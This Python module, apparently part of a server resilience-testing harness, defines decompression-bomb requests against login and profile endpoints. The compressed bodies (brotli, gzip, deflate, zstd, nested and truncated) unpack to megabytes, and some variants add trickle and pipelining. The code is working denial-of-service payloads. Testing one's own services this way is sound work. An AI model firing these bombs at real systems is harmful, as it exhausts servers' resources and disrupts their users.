"""Bodies that are much larger unpacked than packed."""

import asyncio
import gzip
import zlib
from contextlib import suppress

from attacks import attack
from load import Target, exchanges, flood

# 10 MiB of zeros in brotli: 14 bytes.
BROTLI = bytes.fromhex("9fffff9ff82700e2b14020f7fe13")
EMPTY_MEMBER = gzip.compress(b"", mtime=0)
MEBIBYTE = 1 << 20


def login(target: Target, encoding: str, body: bytes) -> bytes:
    headers = (("Content-Type", "application/json"), ("Content-Encoding", encoding))
    return target.request("POST", "/auth/login", *headers, body=body)


@attack("a")
async def brotli_bomb(target: Target) -> None:
    """login with 14 bytes of brotli that unpack to 10 MiB"""
    request = login(target, "br", BROTLI)
    await exchanges(target, lambda: request)


@attack("a")
async def brotli_bomb_trickle(target: Target) -> None:
    """the same from 16 connections at 2 KB/s in all, each request on its own connection"""
    request = login(target, "br", BROTLI)

    async def one() -> None:
        with suppress(OSError, TimeoutError):
            connection = await target.connect()
            try:
                await asyncio.wait_for(connection.exchange(request), 30)
            finally:
                connection.close()

    running: set[asyncio.Task] = set()
    while True:
        if len(running) < 16:
            task = asyncio.create_task(one())
            running.add(task)
            task.add_done_callback(running.discard)
        await asyncio.sleep(len(request) / 2_200)


@attack("a")
async def brotli_bomb_http_pipeline(target: Target) -> None:
    """the same, 16 at once on each connection"""
    request = login(target, "br", BROTLI)
    await flood(target, lambda: request, connections=8, batch=16)


@attack("a")
async def gzip_members(target: Target) -> None:
    """login with 3 MiB made of empty gzip members"""
    request = login(target, "gzip", EMPTY_MEMBER * (3 * MEBIBYTE // len(EMPTY_MEMBER)))
    await exchanges(target, lambda: request, connections=4)


@attack("a")
async def small_gzip_members(target: Target) -> None:
    """login with gzip members of one byte each"""
    request = login(target, "gzip", gzip.compress(b" ", mtime=0) * 30_000)
    await exchanges(target, lambda: request, connections=8)


@attack("a")
async def gzip_bomb(target: Target) -> None:
    """login with 10 KB of gzip that unpack to 10 MiB"""
    request = login(target, "gzip", gzip.compress(bytes(10 * MEBIBYTE), mtime=0))
    await exchanges(target, lambda: request)


@attack("a")
async def deflate_bomb(target: Target) -> None:
    """login with 10 KB of deflate that unpack to 10 MiB"""
    request = login(target, "deflate", zlib.compress(bytes(10 * MEBIBYTE)))
    await exchanges(target, lambda: request)


@attack("a")
async def zstd_bomb(target: Target) -> None:
    """login with 340 bytes of zstd that unpack to 10 MiB"""
    # A frame (RFC 8878, section 3.1.1) of run-length blocks: a block header of 3 bytes, then the byte to repeat.
    blocks = [(131_072 << 3 | 1 << 1 | (number == 79)).to_bytes(3, "little") + b" " for number in range(80)]
    body = bytes.fromhex("28b52ffd") + b"\x00\x58" + b"".join(blocks)
    request = login(target, "zstd", body)
    await exchanges(target, lambda: request)


@attack("a")
async def nested_encodings(target: Target) -> None:
    """login with a bomb in a bomb: gzip of gzip of 10 MiB"""
    inner = gzip.compress(bytes(10 * MEBIBYTE), mtime=0)
    request = login(target, "gzip, gzip", gzip.compress(inner, mtime=0))
    await exchanges(target, lambda: request)


@attack("a")
async def many_brotli_streams(target: Target) -> None:
    """login with 2 MiB of brotli streams, one after the other"""
    request = login(target, "br", b"\x3b" * (2 * MEBIBYTE))
    await exchanges(target, lambda: request, connections=4)


@attack("a")
async def truncated_bombs(target: Target) -> None:
    """bombs whose last byte is missing, so that they fail at the end"""
    request = login(target, "gzip", gzip.compress(bytes(10 * MEBIBYTE), mtime=0)[:-9])
    await exchanges(target, lambda: request)


@attack("a")
async def bomb_with_a_credential(target: Target) -> None:
    """the brotli bomb of an ordinary user to an operation that needs a credential"""
    headers = (("Content-Type", "application/json"), ("Content-Encoding", "br"))
    request = target.request("PUT", "/users/me", *headers, body=BROTLI, token=target.user.token)
    await exchanges(target, lambda: request)
